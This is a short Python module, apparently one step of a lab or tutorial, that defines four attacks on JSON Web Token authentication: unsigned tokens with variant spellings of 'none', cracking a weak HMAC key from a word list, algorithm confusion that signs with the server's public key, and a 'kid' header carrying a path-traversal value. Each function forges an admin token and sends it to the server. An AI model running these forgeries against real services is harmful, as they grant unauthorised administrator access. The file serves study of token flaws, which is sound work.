"""Step 10: four attacks. Each gets what an attacker has (a `Loot`) and gives back the response that it got."""

import requests
from loot import COMMON_KEYS, Loot, forged, present, signature


def alg_none(loot: Loot) -> requests.Response:
    """The response to an admin's token without a signature, in the spelling of `none` that gets in, if one does."""
    for spelling in ("none", "None", "NONE", "nOnE"):
        signed = forged(loot, b"", alg=spelling)
        response = present(loot, signed.rpartition(".")[0] + ".")
        if response.ok:
            break
    return response


def weak_key(loot: Loot) -> requests.Response:
    """The response to an admin's token that is signed with the server's key, when that is a common word."""
    text, _, real_signature = loot.access.rpartition(".")
    for word in COMMON_KEYS:
        if signature(text, word.encode()) == real_signature:
            return present(loot, forged(loot, word.encode(), alg="HS256"))
    return present(loot, loot.access)


def confused_algorithm(loot: Loot) -> requests.Response:
    """The response to an admin's token that is signed with the text of the public key, as if that were a secret."""
    return present(loot, forged(loot, loot.public_key.encode(), alg="HS256"))


def kid_as_path(loot: Loot) -> requests.Response:
    """The response to an admin's token whose key is an empty file."""
    return present(loot, forged(loot, b"", alg="HS256", kid="../api/__init__.py"))
